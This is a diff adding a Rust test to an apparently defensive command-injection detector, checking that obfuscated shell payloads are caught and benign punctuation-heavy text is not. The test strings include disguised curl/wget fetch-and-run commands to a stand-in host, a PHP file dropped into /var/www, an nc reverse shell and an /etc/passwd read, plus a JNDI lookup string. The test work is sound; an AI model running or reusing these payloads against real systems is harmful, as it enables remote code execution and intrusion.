@@ -113,6 +113,63 @@ fn commands_are_found_behind_any_value_and_separator() {
 }
 
 #[test]
+fn commands_are_found_whose_names_a_shell_puts_together() {
+    let attacks = [
+        "c''url http://e/x",
+        "8.8.8.8;c''url http://e/x",
+        "8.8.8.8;c\"\"url -o /var/www/s.php http://e/s",
+        "8.8.8.8;cu\\rl http://e/x",
+        "8.8.8.8|w\\get http://e/x -O-|b''ash",
+        "8.8.8.8;w\\hoami",
+        "8.8.8.8;'id'",
+        "8.8.8.8;\"i\"d",
+        "8.8.8.8;\\id",
+        "8.8.8.8&&un''ame -a",
+        "8.8.8.8;n''c 1.2.3.4 4444 -e /b''in/s''h",
+        "$(c''url http://e/x)",
+        "`c''url http://e/x`",
+        "8.8.8.8&who^ami",
+        "8.8.8.8&\"curl\" http://e/x",
+        "8.8.8.8;cu$@rl http://e/x",
+        "8.8.8.8;/b??/cat /etc/p?sswd",
+        "8.8.8.8;/???/c?rl http://e/x",
+        "8.8.8.8;/bin/[c]at /home/x",
+        "8.8.8.8;X=curl;$X http://e/x",
+        "8.8.8.8;a=who;${a}ami",
+        "8.8.8.8;bash<<<id",
+        "8.8.8.8;eval \"$(printf cu)rl x\"",
+    ];
+    check(named(attacks, field), true);
+    check(named(attacks, value), true);
+    check(
+        named(attacks, |text| {
+            json(&format!("{{\"host\":{}}}", serde_json(&text.replace('\n', " "))))
+        }),
+        true,
+    );
+    check(
+        named(
+            [
+                "O'Brien; don't; can't",
+                "Rock 'n' Roll; \"cat\" food & 'dog' food",
+                "nr;\"id\";\"name\"\n1;\"2\";\"ls\"",
+                "he said: \"ls\" & more",
+                "C:\\bin\\cat; C:\\temp\\new",
+                "a & \\textbf{x} \\\\ b & \\cite{y}",
+                "(\\d+)|\\w+|[^;]*",
+                "x^2 & y^2; z^2",
+                "$5 & $6; US$10",
+                "what? (who?) *note* [see a/b/c?]",
+                "it's; 'tis the season",
+                "src/**/*.rs; /a/*/b",
+            ],
+            field,
+        ),
+        false,
+    );
+}
+
+#[test]
 fn lookups_are_found_however_long_their_names_are() {
     let key = |bytes: usize| format!("${{${{{}:-j}}ndi:ldap://e/a}}", "a".repeat(bytes));
     let texts = [
